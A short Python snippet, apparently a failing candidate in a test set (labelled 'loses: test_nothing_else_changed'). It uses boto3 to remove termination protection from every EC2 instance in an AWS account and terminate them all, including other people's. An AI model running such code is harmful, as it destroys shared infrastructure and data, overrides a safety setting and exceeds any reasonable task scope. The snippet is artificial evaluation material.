# loses: test_nothing_else_changed
# Terminates the whole account, other people's instances too.
import boto3

for i in boto3.resource("ec2").instances.all():
    i.modify_attribute(DisableApiTermination={"Value": False})
    i.terminate()
